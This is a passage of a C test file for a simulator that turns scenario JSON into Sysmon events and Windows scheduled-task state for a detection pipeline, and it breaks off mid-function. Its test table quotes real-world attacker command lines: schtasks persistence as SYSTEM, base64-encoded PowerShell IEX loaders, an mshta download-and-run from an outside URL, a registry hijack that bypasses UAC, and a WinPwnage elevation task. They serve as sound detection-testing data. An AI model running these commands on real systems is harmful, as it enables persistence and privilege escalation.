/* SPDX-License-Identifier: MIT */
/*
 * Simulator tests: what a scenario author or the pipeline sees. The seed
 * scenario must yield the Wazuh blog's Event 12 and task file; every command
 * line of facts/threats.md must parse and leave the right task state (XML,
 * TaskCache values, Actions blob round trip); bad scenarios and command lines
 * are errors naming the JSON path; same seed, same bytes; noise is fast.
 */
#define _DEFAULT_SOURCE 1
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include <cmocka.h>

#include "interp.h"
#include "service.h"
#include "sim_int.h"
#include "tasklab/scenario.h"
#include "tasklab/sim.h"

#define ETC TL_SOURCE_DIR "/pipeline/etc"
#define MODULAR TL_SHARED_DIR "/reference/sysmon/sysmon-modular_sysmonconfig.xml"

static int have_shared(void)
{
    struct stat sb;
    return stat(MODULAR, &sb) == 0;
}

/* ---- helpers ------------------------------------------------------------------ */

/* Build a scenario named "t" from a JSON steps array and endpoint extras. */
static char *scen_json(const char *steps, const char *extra_ep)
{
    tl_buf b = TL_BUF_INIT;
    tl_buf_printf(&b,
                  "{\"name\":\"t\",\"title\":\"test\",\"kind\":\"attack\","
                  "\"endpoint\":{\"hostname\":\"DESKTOP-4E0BQFT\",\"users\":[{\"name\":\"alice\","
                  "\"admin\":true},{\"name\":\"bob\"}]%s},"
                  "\"start\":\"2022-04-13T11:59:41.000Z\",\"seed\":7,\"steps\":%s}",
                  extra_ep ? extra_ep : "", steps);
    return tl_buf_take(&b);
}

static tl_scenario *load_str(const char *json, tl_diag *d)
{
    tl_scenario *sc = NULL;
    tl_status st = tl_scenario_load_mem("scenarios/t.json", json, strlen(json), &sc, d);
    if (st != TL_OK) {
        char m[2048];
        tl_diag_format(d, m, sizeof m);
        print_error("load failed: %s\n", m);
        return NULL;
    }
    return sc;
}

typedef struct run {
    tl_scenario *sc;
    tl_sim *sim;
    tl_buf all; /* every record's xml, one a line */
    size_t nrec;
    tl_status st;
    tl_diag d;
} run;

static void run_free(run *r)
{
    tl_sim_free(r->sim);
    tl_scenario_free(r->sc);
    tl_buf_free(&r->all);
}

/* Load and run every step; records concatenated in r->all. */
static int run_steps(run *r, const char *steps, const char *extra_ep, const char *config)
{
    memset(r, 0, sizeof *r);
    char *j = scen_json(steps, extra_ep);
    r->sc = load_str(j, &r->d);
    tl_free(j);
    if (!r->sc)
        return 0;
    tl_sim_opts o = {ETC, TL_SHARED_DIR, config, NULL};
    r->st = tl_sim_new(r->sc, &o, &r->sim, &r->d);
    if (r->st != TL_OK) {
        char m[2048];
        tl_diag_format(&r->d, m, sizeof m);
        print_error("sim_new failed: %s\n", m);
        return 0;
    }
    for (size_t i = 0; i < tl_sim_step_count(r->sim); i++) {
        r->st = tl_sim_run_step(r->sim, i, &r->d);
        if (r->st != TL_OK)
            return 0;
        tl_record rec;
        while (tl_sim_next_record(r->sim, &rec)) {
            tl_buf_puts(&r->all, rec.xml);
            tl_buf_putc(&r->all, '\n');
            r->nrec++;
        }
    }
    tl_record rec;
    while (tl_sim_next_record(r->sim, &rec)) {
        tl_buf_puts(&r->all, rec.xml);
        tl_buf_putc(&r->all, '\n');
        r->nrec++;
    }
    return 1;
}

static const char *out(const run *r) { return tl_buf_cstr(&r->all); }

/* The task file as UTF-8 text (caller frees). */
static char *task_text(run *r, const char *winpath)
{
    char *data = NULL, *txt = NULL;
    size_t len = 0;
    if (tl_sim_read_file(r->sim, winpath, &data, &len) != TL_OK)
        return NULL;
    assert_true(len > 2 && (unsigned char)data[0] == 0xff && (unsigned char)data[1] == 0xfe);
    assert_int_equal(tl_text_decode((unsigned char *)data, len, &txt), TL_OK);
    tl_free(data);
    return txt;
}

static tl_regval *regval(run *r, const char *key, const char *name)
{
    tl_regkey *k = tl_reg_find(r->sim, key);
    return k ? tl_reg_val_find(k, name) : NULL;
}

/* ---- scenario loader ------------------------------------------------------------ */

static void expect_load_error(const char *json, const char *msg)
{
    tl_diag d;
    tl_diag_clear(&d);
    tl_scenario *sc = NULL;
    tl_status st = tl_scenario_load_mem("scenarios/t.json", json, strlen(json), &sc, &d);
    char m[2048];
    tl_diag_format(&d, m, sizeof m);
    if (st != TL_E_PARSE || !strstr(m, msg)) {
        print_error("expected error containing \"%s\", got status %d: %s\n", msg, st, m);
        fail();
    }
    assert_null(sc);
}

static void test_sim_scenario_errors_name_json_path(void **state)
{
    (void)state;
    char *j = scen_json("[{\"at\":\"soon\",\"command\":\"whoami\"}]", NULL);
    expect_load_error(j, "scenarios/t.json: $.steps[0].at: expected a number");
    tl_free(j);
    j = scen_json("[{\"at\":0,\"command\":\"whoami\"},{\"at\":-1,\"command\":\"x\"}]", NULL);
    expect_load_error(j, "$.steps[1].at: impossible time offset");
    tl_free(j);
    j = scen_json("[{\"at\":0,\"comand\":\"whoami\"}]", NULL);
    expect_load_error(j, "$.steps[0].comand: unknown key");
    tl_free(j);
    j = scen_json("[{\"at\":0,\"command\":\"a\",\"command\":\"b\"}]", NULL);
    expect_load_error(j, "$.steps[0].command: duplicate key");
    tl_free(j);
    j = scen_json("[{\"at\":0,\"user\":\"mallory\",\"command\":\"whoami\"}]", NULL);
    expect_load_error(j, "$.steps[0].user: unknown user \"mallory\"");
    tl_free(j);
    j = scen_json("[{\"at\":0,\"registry\":{\"op\":\"set_value\",\"key\":\"HKLM\\\\X\","
                  "\"value\":\"v\",\"type\":\"REG_DWORD\",\"data\":\"one\"}}]",
                  NULL);
    expect_load_error(j, "$.steps[0].registry.data: expected an unsigned integer for REG_DWORD");
    tl_free(j);
    j = scen_json("[]", ",\"arch\":\"arm\"");
    expect_load_error(j, "$.endpoint.arch: expected \"x64\" or \"x86\"");
    tl_free(j);
    j = scen_json("[]", ",\"windir\":\"D:\\\\Windows\"");
    expect_load_error(j, "$.endpoint.windir: must be C:\\Windows in some casing");
    tl_free(j);
    expect_load_error("{\"name\":\"other\",\"title\":\"x\",\"kind\":\"attack\",\"endpoint\":"
                      "{\"hostname\":\"H\"},\"start\":\"2022-01-01T00:00:00Z\",\"steps\":[]}",
                      "$.name: \"other\" must equal the file name without .json");
    expect_load_error("{\"name\":\"t\",\"title\":\"x\",\"kind\":\"attack\",\"endpoint\":"
                      "{\"hostname\":\"H\"},\"start\":\"yesterday\",\"steps\":[]}",
                      "$.start: expected an ISO 8601 UTC time");
    expect_load_error("{\"name\":\"t\",\n\"title\":\"x\",,}", "scenarios/t.json:2:");
}

static void test_sim_scenario_seed_accessors(void **state)
{
    (void)state;
    tl_diag d;
    tl_scenario *sc = NULL;
    assert_int_equal(tl_scenario_load(TL_SOURCE_DIR "/scenarios/seed-test-task.json", &sc, &d),
                     TL_OK);
    assert_string_equal(tl_scenario_name(sc), "seed-test-task");
    assert_string_equal(tl_scenario_kind(sc), "attack");
    assert_string_equal(tl_scenario_technique(sc), "T1053.005");
    assert_string_equal(tl_scenario_hostname(sc), "DESKTOP-4E0BQFT");
    assert_string_equal(tl_scenario_agent_id(sc), "001");
    assert_string_equal(tl_scenario_agent_name(sc), "DESKTOP-4E0BQFT");
    assert_true(tl_scenario_expect_json(sc)[0] == '['); /* kept as JSON text */
    char t[32];
    tl_time_fmt_systemtime(tl_scenario_start(sc), t);
    assert_string_equal(t, "2022-04-13T11:59:41.0000000Z");
    tl_scenario_free(sc);
    assert_int_equal(
        tl_scenario_load(TL_SOURCE_DIR "/scenarios/seed-update-orchestrator.json", &sc, &d), TL_OK);
    assert_string_equal(tl_scenario_kind(sc), "benign");
    tl_scenario_free(sc);
}

static void test_sim_steps_run_in_time_order(void **state)
{
    (void)state;
    tl_diag d;
    char *j = scen_json("[{\"at\":5,\"command\":\"whoami\"},{\"at\":1,\"command\":\"hostname\"},"
                        "{\"at\":5,\"command\":\"ipconfig\"}]",
                        NULL);
    tl_scenario *sc = load_str(j, &d);
    tl_free(j);
    assert_non_null(sc);
    tl_sim_opts o = {ETC, NULL, NULL, NULL};
    tl_sim *s = NULL;
    assert_int_equal(tl_sim_new(sc, &o, &s, &d), TL_OK);
    assert_int_equal(tl_sim_step_count(s), 3);
    assert_true(tl_sim_step_time(s, 0) < tl_sim_step_time(s, 1));
    assert_true(tl_sim_step_time(s, 1) == tl_sim_step_time(s, 2));
    assert_string_equal(sc->steps[1].command, "whoami"); /* ties keep file order */
    tl_sim_free(s);
    tl_scenario_free(sc);
}

/* ---- the seed --------------------------------------------------------------------- */

static void test_sim_seed_yields_blog_event12(void **state)
{
    (void)state;
    tl_diag d;
    tl_scenario *sc = NULL;
    assert_int_equal(tl_scenario_load(TL_SOURCE_DIR "/scenarios/seed-test-task.json", &sc, &d),
                     TL_OK);
    tl_sim_opts o = {ETC, NULL, NULL, NULL};
    tl_sim *s = NULL;
    assert_int_equal(tl_sim_new(sc, &o, &s, &d), TL_OK);
    assert_int_equal(tl_sim_run_step(s, 0, &d), TL_OK);
    tl_record r;
    int found = 0;
    while (tl_sim_next_record(s, &r)) {
        assert_string_equal(r.channel, "Microsoft-Windows-Sysmon/Operational");
        if (!strstr(r.xml, "<EventID>12</EventID>"))
            continue;
        found++;
        assert_non_null(strstr(r.xml,
                               "<Data Name='RuleName'>technique_id=T1053,technique_name="
                               "Scheduled Task</Data><Data Name='EventType'>CreateKey</Data>"));
        assert_non_null(strstr(r.xml,
                               "<Data Name='Image'>C:\\Windows\\system32\\svchost.exe</Data>"
                               "<Data Name='TargetObject'>HKLM\\SOFTWARE\\Microsoft\\Windows "
                               "NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\test-task"
                               "</Data><Data Name='User'>NT AUTHORITY\\SYSTEM</Data>"));
        assert_non_null(strstr(r.xml, "<Computer>DESKTOP-4E0BQFT</Computer>"));
        assert_non_null(strstr(r.xml, "<Security UserID='S-1-5-18'/>"));
        assert_non_null(r.message);
        assert_non_null(strstr(r.message, "Registry object added or deleted:\r\n"));
        assert_int_equal(r.step, 0);
    }
    assert_int_equal(found, 1);
    /* the task file, read case-insensitively */
    char *data = NULL;
    size_t len = 0;
    assert_int_equal(tl_sim_read_file(s, "c:\\WINDOWS\\system32\\TASKS\\Test-Task", &data, &len),
                     TL_OK);
    char *txt = NULL;
    assert_int_equal(tl_text_decode((unsigned char *)data, len, &txt), TL_OK);
    assert_true((unsigned char)data[0] == 0xff && (unsigned char)data[1] == 0xfe);
    assert_non_null(strstr(txt,
                           "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" "
                           "xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n"
                           "  <RegistrationInfo>\r\n"));
    assert_non_null(strstr(txt, "      <Command>C:\\Windows\\System32\\calc.exe</Command>\r\n"));
    assert_non_null(strstr(txt, "<LogonTrigger>"));
    assert_non_null(strstr(txt, "<UserId>S-1-5-18</UserId>"));
    assert_null(strstr(txt, "<Arguments>"));
    tl_free(txt);
    tl_free(data);
    assert_int_equal(tl_sim_read_file(s, "C:\\Windows\\System32\\Tasks\\nope", &data, &len),
                     TL_E_NOTFOUND);
    assert_string_equal(tl_sim_agent_dir(s), "C:\\Program Files (x86)\\ossec-agent");
    tl_sim_free(s);
    tl_scenario_free(sc);
}

static void test_sim_update_orchestrator_seed(void **state)
{
    (void)state;
    tl_diag d;
    tl_scenario *sc = NULL;
    assert_int_equal(
        tl_scenario_load(TL_SOURCE_DIR "/scenarios/seed-update-orchestrator.json", &sc, &d), TL_OK);
    tl_sim_opts o = {ETC, NULL, NULL, NULL};
    tl_sim *s = NULL;
    assert_int_equal(tl_sim_new(sc, &o, &s, &d), TL_OK);
    assert_int_equal(tl_sim_run_step(s, 0, &d), TL_OK);
    tl_record r;
    assert_int_equal(tl_sim_next_record(s, &r), 1);
    assert_non_null(strstr(r.xml, "<EventID>12</EventID>"));
    assert_non_null(
        strstr(r.xml, "TaskCache\\Tree\\Microsoft\\Windows\\UpdateOrchestrator</Data>"));
    assert_non_null(strstr(r.xml, "<Data Name='Image'>C:\\Windows\\system32\\svchost.exe</Data>"));
    assert_int_equal(tl_sim_next_record(s, &r), 0);
    tl_sim_free(s);
    tl_scenario_free(sc);
}

static void test_sim_same_seed_same_bytes(void **state)
{
    (void)state;
    const char *steps =
        "[{\"at\":0,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks /create /tn x /tr "
        "calc.exe /sc daily /st 09:00 /f\"},{\"at\":3,\"noise\":{\"events\":500,\"duration\":60}},"
        "{\"at\":9,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks /delete /tn x "
        "/f\"}]";
    run a, b;
    assert_true(run_steps(&a, steps, NULL, NULL));
    assert_true(run_steps(&b, steps, NULL, NULL));
    assert_true(a.nrec > 5);
    assert_string_equal(out(&a), out(&b));
    run_free(&a);
    run_free(&b);
}

/* ---- command lines of threats.md -------------------------------------------------- */

typedef struct tcase {
    const char *why;
    const char *pre;  /* extra steps before (JSON objects, comma-terminated) or "" */
    const char *user; /* "alice" (admin), "bob", "SYSTEM" */
    int elevated;
    const char *parent;  /* NULL = cmd.exe */
    const char *command; /* JSON-escaped */
    const char *task;    /* expected task path */
    const char *cmd;     /* expected Exec Command */
    const char *args;    /* expected Arguments (NULL = none) */
    const char *xml_has; /* a substring of the task XML, or NULL */
} tcase;

static const tcase cases[] = {
    {"APT3", "", "alice", 1, NULL,
     "schtasks /create /tn \\\"mysc\\\" /tr C:\\\\Users\\\\Public\\\\test.exe /sc ONLOGON /ru "
     "\\\"System\\\"",
     "\\mysc", "C:\\Users\\Public\\test.exe", NULL, "<LogonTrigger>"},
    {"Frankenstein", "", "alice", 1, NULL,
     "schtasks /Create /F /SC DAILY /ST 09:00 /TN WinUpdate /TR C:\\\\Users\\\\Public\\\\x.exe",
     "\\WinUpdate", "C:\\Users\\Public\\x.exe", NULL,
     "<StartBoundary>2022-04-13T09:00:00</StartBoundary>"},
    {"Chimera", "", "alice", 1, NULL,
     "schtasks /create /ru \\\"SYSTEM\\\" /tn \\\"update\\\" /tr \\\"cmd /c "
     "c:\\\\windows\\\\temp\\\\update.bat\\\" /sc once /f /st 14:00",
     "\\update", "cmd", "/c c:\\windows\\temp\\update.bat", "<TimeTrigger>"},
    {"QakBot msra", "", "SYSTEM", 1, "C:\\\\Windows\\\\System32\\\\msra.exe",
     "\\\"schtasks.exe\\\" /Create /RU \\\"NT AUTHORITY\\\\SYSTEM\\\" /tn juqpxmakfk /tr "
     "\\\"regsvr32.exe -s \\\\\\\"C:\\\\Users\\\\REDACTED\\\\ocrafh.html\\\\\\\"\\\" /SC ONCE /Z "
     "/ST 14:20 /ET 14:32",
     "\\juqpxmakfk", "regsvr32.exe", "-s \"C:\\Users\\REDACTED\\ocrafh.html\"",
     "<DeleteExpiredTaskAfter>PT0S</DeleteExpiredTaskAfter>"},
    {"Atomic 7 / QakBot 2022", "", "bob", 0, NULL,
     "schtasks.exe /Create /F /TN \\\"ATOMIC-T1053.005\\\" /TR \\\"cmd /c start /min "
     "\\\\\\\"\\\\\\\" powershell.exe -Command "
     "IEX([System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String((Get-"
     "ItemProperty -Path HKCU:\\\\\\\\SOFTWARE\\\\\\\\ATOMIC-T1053.005).test)))\\\" /sc daily /st "
     "07:45",
     "\\ATOMIC-T1053.005", "cmd",
     "/c start /min \"\" powershell.exe -Command "
     "IEX([System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String((Get-"
     "ItemProperty -Path HKCU:\\\\SOFTWARE\\\\ATOMIC-T1053.005).test)))",
     "<CalendarTrigger>"},
    {"Empire", "", "alice", 1,
     "C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe",
     "\\\"C:\\\\Windows\\\\system32\\\\schtasks.exe\\\" /Create /F /RU system /SC DAILY /ST 10:26 "
     "/TN Updater /TR \\\"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe "
     "-NonI -W hidden -c \\\\\\\"IEX "
     "([Text.Encoding]::UNICODE.GetString([Convert]::FromBase64String((gp "
     "HKLM:\\\\Software\\\\Microsoft\\\\Network debug).debug)))\\\\\\\"\\\"",
     "\\Updater", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "-NonI -W hidden -c \"IEX ([Text.Encoding]::UNICODE.GetString([Convert]::FromBase64String((gp "
     "HKLM:\\Software\\Microsoft\\Network debug).debug)))\"",
     "<UserId>S-1-5-18</UserId>"},
    {"MuddyWater", "", "alice", 0, NULL,
     "\\\"C:\\\\Windows\\\\system32\\\\schtasks.exe\\\" /Create /F /SC DAILY /ST 12:00 /TN "
     "MicrosoftEdge /TR \\\"c:\\\\Windows\\\\system32\\\\wscript.exe "
     "C:\\\\Windows\\\\temp\\\\Windows.vbe\\\"",
     "\\MicrosoftEdge", "c:\\Windows\\system32\\wscript.exe", "C:\\Windows\\temp\\Windows.vbe",
     "<LogonType>InteractiveToken</LogonType>"},
    {"Tomiris", "", "bob", 0, NULL,
     "SCHTASKS /CREATE /SC DAILY /TN StartDVL /TR "
     "\\\"C:\\\\Users\\\\bob\\\\AppData\\\\Roaming\\\\dvl.exe\\\" /ST 10:00",
     "\\StartDVL", "C:\\Users\\bob\\AppData\\Roaming\\dvl.exe", NULL,
     "<DaysInterval>1</DaysInterval>"},
    {"yty", "", "bob", 0, NULL,
     "SchTasks /Create /SC DAILY /TN BigData /TR \\\"C:\\\\Users\\\\bob\\\\big.exe\\\" /ST 09:30",
     "\\BigData", "C:\\Users\\bob\\big.exe", NULL, NULL},
    {"Lucifer (caret, sic path)", "", "alice", 0, NULL,
     "schtasks /create /sc minute /mo 1 /tn QQMusic ^ /tr "
     "C:Users\\\\%USERPROFILE%\\\\Downloads\\\\spread.exe /F",
     "\\QQMusic", "C:Users\\C:\\Users\\alice\\Downloads\\spread.exe", NULL,
     "<Interval>PT1M</Interval>"},
    {"APT41 remote (local name)", "", "alice", 1, NULL,
     "SCHTASKS /Create /S DESKTOP-4E0BQFT /U alice /p pw /SC ONCE /TN test /TR "
     "C:\\\\Windows\\\\Temp\\\\x.exe /ST 11:00 /RU SYSTEM",
     "\\test", "C:\\Windows\\Temp\\x.exe", NULL, NULL},
    {"mshta dropper", "", "alice", 0, "C:\\\\Windows\\\\System32\\\\mshta.exe",
     "\\\"C:\\\\Windows\\\\System32\\\\schtasks.exe\\\" /Create /sc MINUTE /MO 60 /TN MSOFFICE_ "
     "/TR \\\"mshta.exe https://hotelesms.com/Injection.txt\\\" /F",
     "\\MSOFFICE_", "mshta.exe", "https://hotelesms.com/Injection.txt",
     "<Interval>PT60M</Interval>"},
    {"Agent Tesla /XML (UTF-16 file, folder)",
     "{\"at\":0,\"user\":\"bob\",\"file\":{\"op\":\"write\",\"path\":\"C:"
     "\\\\Users\\\\bob\\\\AppData\\\\Local\\\\Temp\\\\tmp77E5.tmp\",\"encoding\":\"utf-16le-bom\","
     "\"content\":\"<?xml version=\\\"1.0\\\" encoding=\\\"UTF-16\\\"?>\\r\\n<Task "
     "version=\\\"1.2\\\" "
     "xmlns=\\\"http://schemas.microsoft.com/windows/2004/02/mit/"
     "task\\\"><RegistrationInfo><Date>2014-10-25T14:27:44.8929027</Date><Author>bob</Author></"
     "RegistrationInfo><Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger></"
     "Triggers><Principals><Principal "
     "id=\\\"Author\\\"><LogonType>InteractiveToken</LogonType></Principal></"
     "Principals><Settings><Enabled>true</Enabled><Hidden>false</Hidden></Settings><Actions "
     "Context=\\\"Author\\\"><Exec><Command>C:"
     "\\\\Users\\\\bob\\\\AppData\\\\Roaming\\\\neHneiobyhcrJJ.exe</Command></Exec></Actions></"
     "Task>\"}},",
     "bob", 0, "C:\\\\Users\\\\bob\\\\Desktop\\\\payload.exe",
     "\\\"C:\\\\Windows\\\\System32\\\\schtasks.exe\\\" /Create /TN "
     "\\\"Updates\\\\neHneiobyhcrJJ\\\" /XML "
     "\\\"C:\\\\Users\\\\bob\\\\AppData\\\\Local\\\\Temp\\\\tmp77E5.tmp\\\"",
     "\\Updates\\neHneiobyhcrJJ", "C:\\Users\\bob\\AppData\\Roaming\\neHneiobyhcrJJ.exe", NULL,
     "<URI>\\Updates\\neHneiobyhcrJJ</URI>"},
    {"cmd /C with /XML (EVTX sample)",
     "{\"at\":0,\"user\":\"alice\",\"file\":{\"op\":\"write\",\"path\":\"C:"
     "\\\\Users\\\\alice\\\\AppData\\\\Local\\\\Temp\\\\sduchxll.tmp\",\"encoding\":\"utf-8-bom\","
     "\"content\":\"<?xml version=\\\"1.0\\\" encoding=\\\"UTF-16\\\"?><Task version=\\\"1.2\\\" "
     "xmlns=\\\"http://schemas.microsoft.com/windows/2004/02/mit/task\\\"><RegistrationInfo/"
     "><Actions "
     "Context=\\\"Author\\\"><Exec><Command>rundll32.exe</"
     "Command><Arguments>C:\\\\Users\\\\alice\\\\x.dll,Start</Arguments></Exec></Actions></"
     "Task>\"}},",
     "alice", 0, "C:\\\\Windows\\\\System32\\\\rundll32.exe",
     "\\\"C:\\\\Windows\\\\System32\\\\cmd.exe\\\"  /C schtasks /Create /f /XML "
     "C:\\\\Users\\\\alice\\\\AppData\\\\Local\\\\Temp\\\\sduchxll.tmp /TN DataUsageHandlers",
     "\\DataUsageHandlers", "rundll32.exe", "C:\\Users\\alice\\x.dll,Start", NULL},
    {"Atomic 1 onstart", "", "alice", 1, NULL,
     "schtasks /create /tn \\\"T1053_005_OnStartup\\\" /sc onstart /ru system /tr \\\"cmd.exe /c "
     "calc.exe\\\"",
     "\\T1053_005_OnStartup", "cmd.exe", "/c calc.exe", "<BootTrigger>"},
    {"Atomic 2", "", "bob", 0, NULL,
     "SCHTASKS /Create /SC ONCE /TN spawn /TR C:\\\\windows\\\\system32\\\\cmd.exe /ST 20:10",
     "\\spawn", "C:\\windows\\system32\\cmd.exe", NULL, "T20:10:00</StartBoundary>"},
    {"Atomic 11", "", "alice", 1, NULL,
     "reg add "
     "\\\"HKEY_CURRENT_USER\\\\Software\\\\Classes\\\\mscfile\\\\shell\\\\open\\\\command\\\" /ve "
     "/t REG_EXPAND_SZ /d \\\"c:\\\\windows\\\\System32\\\\calc.exe\\\" /f & schtasks /Create /TN "
     "\\\"CompMgmtBypass\\\" /TR \\\"compmgmt.msc\\\" /SC ONLOGON /RL HIGHEST /F",
     "\\CompMgmtBypass", "compmgmt.msc", NULL, "<RunLevel>HighestAvailable</RunLevel>"},
    {"PowerShell Atomic 4", "", "alice", 1,
     "C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe",
     "$Action = New-ScheduledTaskAction -Execute \\\"calc.exe\\\"\\n$Trigger = "
     "New-ScheduledTaskTrigger -AtLogon\\n$User = New-ScheduledTaskPrincipal -GroupId "
     "\\\"BUILTIN\\\\Administrators\\\" -RunLevel Highest\\n$Set = "
     "New-ScheduledTaskSettingsSet\\n$object = New-ScheduledTask -Action $Action -Principal $User "
     "-Trigger $Trigger -Settings $Set\\nRegister-ScheduledTask AtomicTask -InputObject $object",
     "\\AtomicTask", "calc.exe", NULL, "<GroupId>S-1-5-32-544</GroupId>"},
    {"PowerShell Atomic 9 (Set-ScheduledTask)", "", "alice", 1,
     "C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe",
     "$Action = New-ScheduledTaskAction -Execute \\\"cmd.exe\\\"; $Trigger = "
     "New-ScheduledTaskTrigger -AtLogon; $User = New-ScheduledTaskPrincipal -GroupId "
     "\\\"BUILTIN\\\\Administrators\\\" -RunLevel Highest; $Set = New-ScheduledTaskSettingsSet; "
     "$object = New-ScheduledTask -Action $Action -Principal $User -Trigger $Trigger -Settings "
     "$Set; Register-ScheduledTask AtomicTaskModifed -InputObject $object; $NewAction = "
     "New-ScheduledTaskAction -Execute \\\"Notepad.exe\\\"; Set-ScheduledTask "
     "\\\"AtomicTaskModifed\\\" -Action $NewAction",
     "\\AtomicTaskModifed", "Notepad.exe", NULL, NULL},
    {"PowerShell Atomic 8 (RegisterByXml, Hidden, UTF-8 BOM declaring UTF-16)",
     "{\"at\":0,\"user\":\"alice\",\"file\":{\"op\":\"write\",\"path\":\"C:"
     "\\\\AtomicRedTeam\\\\T1053_05_SCTASK_HIDDEN_ATTRIB.xml\",\"encoding\":\"utf-8-bom\","
     "\"content\":\"<?xml version=\\\"1.0\\\" encoding=\\\"UTF-16\\\"?>\\r\\n<Task "
     "version=\\\"1.2\\\" "
     "xmlns=\\\"http://schemas.microsoft.com/windows/2004/02/mit/task\\\">\\r\\n  "
     "<RegistrationInfo>\\r\\n    <Author>atomicredteam</Author>\\r\\n    <URI>\\\\atomic red "
     "team</URI>\\r\\n  </RegistrationInfo>\\r\\n  "
     "<Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger></Triggers>\\r\\n  "
     "<Settings><Hidden>true</Hidden></Settings>\\r\\n  <Actions "
     "Context=\\\"Author\\\"><Exec><Command>C:\\\\Windows\\\\system32\\\\calc.exe\\\"</"
     "Command><Arguments></Arguments></Exec></Actions>\\r\\n</Task>\"}},",
     "alice", 1, "C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe",
     "$xml = "
     "[System.IO.File]::ReadAllText(\\\"C:\\\\AtomicRedTeam\\\\T1053_05_SCTASK_HIDDEN_ATTRIB."
     "xml\\\")\\nInvoke-CimMethod -ClassName PS_ScheduledTask -NameSpace "
     "\\\"Root\\\\Microsoft\\\\Windows\\\\TaskScheduler\\\" -MethodName \\\"RegisterByXml\\\" "
     "-Arguments @{ Force = $true; Xml =$xml; }",
     "\\atomic red team", "C:\\Windows\\system32\\calc.exe\"", "", "<Hidden>true</Hidden>"},
    {"powershell -Command from cmd", "", "alice", 1, NULL,
     "powershell.exe -NoProfile -Command \\\"Register-ScheduledTask -TaskName X1 -TaskPath "
     "\\\\\\\"\\\\F\\\\\\\" -Action (New-ScheduledTaskAction -Execute 'C:\\\\x\\\\y.exe' -Argument "
     "'-a b') -Trigger (New-ScheduledTaskTrigger -Daily -At 10:00) -User SYSTEM -Force\\\"",
     "\\F\\X1", "C:\\x\\y.exe", "-a b", "<UserId>S-1-5-18</UserId>"},
    {"powershell -EncodedCommand", "", "bob", 0, NULL,
     "powershell.exe -NoP -W Hidden -enc "
     "UgBlAGcAaQBzAHQAZQByAC0AUwBjAGgAZQBkAHUAbABlAGQAVABhAHMAawAgAC0AVABhAHMAawBOAGEAbQBlACAAZQBuA"
     "GMAMQAgAC0AQQBjAHQAaQBvAG4AIAAoAE4AZQB3AC0AUwBjAGgAZQBkAHUAbABlAGQAVABhAHMAawBBAGMAdABpAG8Abg"
     "AgAC0ARQB4AGUAYwB1AHQAZQAgACIAQwA6AFwAeAAuAGUAeABlACIAKQAgAC0AVAByAGkAZwBnAGUAcgAgACgATgBlAHc"
     "ALQBTAGMAaABlAGQAdQBsAGUAZABUAGEAcwBrAFQAcgBpAGcAZwBlAHIAIAAtAEEAdABMAG8AZwBvAG4AKQA=",
     "\\enc1", "C:\\x.exe", NULL, "<UserId>DESKTOP-4E0BQFT\\bob</UserId>"},
    {"WinPwnage elevator /xml then /run then /delete (state before delete)",
     "{\"at\":0,\"user\":\"alice\",\"file\":{\"op\":\"write\",\"path\":\"c:"
     "\\\\users\\\\alice\\\\appdata\\\\local\\\\temp\\\\elevator.xml\",\"content\":\"<Task "
     "version=\\\"1.2\\\" "
     "xmlns=\\\"http://schemas.microsoft.com/windows/2004/02/mit/task\\\"><Principals><Principal "
     "id=\\\"LocalSystem\\\"><UserId>S-1-5-18</UserId></Principal></Principals><Actions "
     "Context=\\\"LocalSystem\\\"><Exec><Command>c:\\\\windows\\\\system32\\\\cmd.exe</Command></"
     "Exec></Actions></Task>\"}},",
     "alice", 1, NULL,
     "\\\"C:\\\\Windows\\\\System32\\\\schtasks.exe\\\" /create /xml "
     "c:\\\\users\\\\alice\\\\appdata\\\\local\\\\temp\\\\elevator.xml /tn elevator && schtasks "
     "/run /tn elevator",
     "\\elevator", "c:\\windows\\system32\\cmd.exe", NULL, "<Principal id=\"LocalSystem\">"},
};

static void check_case(const tcase *c)
{
    tl_buf steps = TL_BUF_INIT;
    tl_buf_printf(&steps, "[%s{\"at\":1,\"user\":\"%s\",\"elevated\":%s,", c->pre, c->user,
                  c->elevated ? "true" : "false");
    if (c->parent)
        tl_buf_printf(&steps, "\"parent\":\"%s\",", c->parent);
    tl_buf_printf(&steps, "\"command\":\"%s\"}]", c->command);
    run r;
    int ok = run_steps(&r, tl_buf_cstr(&steps), NULL, NULL);
    if (!ok) {
        char m[2048];
        tl_diag_format(&r.d, m, sizeof m);
        print_error("%s: run failed (%d): %s\n", c->why, r.st, m);
        fail();
    }
    tl_task *t = tl_task_find(r.sim, c->task);
    if (!t) {
        print_error("%s: task %s not registered\n", c->why, c->task);
        fail();
    }
    assert_int_equal(t->nactions, 1);
    assert_string_equal(t->actions[0].command, c->cmd);
    if (c->args)
        assert_string_equal(t->actions[0].arguments ? t->actions[0].arguments : "", c->args);
    else
        assert_null(t->actions[0].arguments);
    /* the file and its XML */
    tl_buf fp = TL_BUF_INIT;
    tl_buf_printf(&fp, "C:\\Windows\\System32\\Tasks%s", c->task);
    char *txt = task_text(&r, tl_buf_cstr(&fp));
    assert_non_null(txt);
    if (c->xml_has && !strstr(txt, c->xml_has)) {
        print_error("%s: XML lacks %s:\n%s\n", c->why, c->xml_has, txt);
        fail();
    }
    /* TaskCache: Tree Id/Index/SD and the Actions blob round trip */
    tl_buf k = TL_BUF_INIT;
    tl_buf_printf(&k, TL_TASKCACHE "\\Tree%s", c->task);
